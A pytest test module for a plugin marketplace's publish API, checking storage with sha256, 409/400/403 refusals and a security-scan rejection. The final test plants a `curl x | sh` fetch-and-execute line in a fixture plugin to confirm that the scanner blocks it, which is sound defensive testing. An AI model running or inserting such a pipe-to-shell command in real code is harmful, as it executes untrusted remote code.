"""Publishing to the catalog: stored with sha256, scan, publisher and date; refusals change nothing."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ..api import assert_error, call
from .helpers import as_user

pytestmark = pytest.mark.timeout(60)


def _catalog_files(store_dir: Path) -> list[str]:
    return sorted(str(p.relative_to(store_dir)) for p in (store_dir / "catalog").rglob("*.tar.gz"))


async def test_publish_stores_archive_manifest_sha256_scan_and_publisher(
    publish: Any, api: Any, package: Callable[..., Path], store_dir: Path
) -> None:
    archive = package(description="Finds quantile drift in sensor streams")
    status, body = await publish(archive, user="alice")
    assert status == 201, body
    assert (body["name"], body["published_version"], body["owner"]) == ("my_plugin", "1.0.0", "alice")
    assert body["sha256"] == hashlib.sha256(archive.read_bytes()).hexdigest()
    stored = store_dir / "catalog" / "my_plugin" / "1.0.0.tar.gz"
    assert stored.read_bytes() == archive.read_bytes()  # the archive exactly as published
    status, details = await api("GET", "marketplace", "plugins", "my_plugin", user="bob")
    assert status == 200
    (v,) = details["versions_detail"]
    assert v["publisher"] == "alice" and v["sha256"] == body["sha256"] and v["published_at"]
    assert v["scan"]["passed"] is True and v["manifest"]["description"].startswith("Finds quantile")
    assert details["installed"] is False  # publishing does not install
    status, _ = await api("GET", "my_plugin")
    assert status == 404
    assert list((store_dir / "staging").iterdir()) == []


async def test_republishing_a_version_is_409_and_changes_nothing(
    publish: Any, package: Callable[..., Path], store_dir: Path
) -> None:
    first = package()
    assert (await publish(first))[0] == 201
    status, body = await publish(package(description="something else"))
    assert_error(status, body, 409, "my_plugin 1.0.0 is already published")
    assert (store_dir / "catalog/my_plugin/1.0.0.tar.gz").read_bytes() == first.read_bytes()


async def test_invalid_package_is_400_listing_problems_and_nothing_published(
    publish: Any, api: Any, package: Callable[..., Path], store_dir: Path
) -> None:
    status, body = await publish(package(version="one", language="java"))
    assert_error(status, body, 400, "version", "language")
    assert len(body["problems"]) >= 2
    status, body = await call_publish_not_multipart(api)
    assert_error(status, body, 400, "multipart/form-data")
    assert _catalog_files(store_dir) == []
    status, body = await api("POST", "marketplace", "search", body={})
    assert body["total"] == 0


async def call_publish_not_multipart(api: Any) -> tuple[int, Any]:
    return await api("POST", "marketplace", "publish", body=b"{}",
                     headers={"Content-Type": "application/json"})


async def test_only_the_owner_or_an_admin_publishes_new_versions(
    publish: Any, package: Callable[..., Path], store_dir: Path
) -> None:
    assert (await publish(package(), user="alice"))[0] == 201
    status, body = await publish(package(version="1.1.0"), user="bob")
    assert_error(status, body, 403, "published by 'alice'")
    assert _catalog_files(store_dir) == ["catalog/my_plugin/1.0.0.tar.gz"]
    status, body = await publish(package(version="1.1.0"), user="admin")
    assert status == 201 and body["latest_version"] == "1.1.0" and body["owner"] == "alice"


async def test_anonymous_publish_is_refused_before_the_body(
    jp_fetch: Any, package: Callable[..., Path], store_dir: Path
) -> None:
    from ..helpers import multipart

    body, ctype = multipart(package())
    status, payload = await call(
        jp_fetch, "POST", "marketplace", "publish", body=body,
        headers={"Content-Type": ctype, "Authorization": "token wrong", **as_user("alice")},
    )
    assert status in (401, 403) and "message" in payload
    assert _catalog_files(store_dir) == []


class TestScanRefusal:
    @pytest.fixture
    def omniscope_config(self) -> dict[str, Any]:
        return {"scanner_class": "tests.doubles.SystemCallScanner"}

    async def test_a_package_the_scan_refuses_is_422_with_the_report(
        self, publish: Any, package: Callable[..., Path], store_dir: Path
    ) -> None:
        evil = package(files={"my_plugin.py": "import os\nos.system('curl x | sh')\n"})
        status, body = await publish(evil)
        assert_error(status, body, 422, "T605", "my_plugin.py:2")
        assert body["report"]["passed"] is False
        assert _catalog_files(store_dir) == []
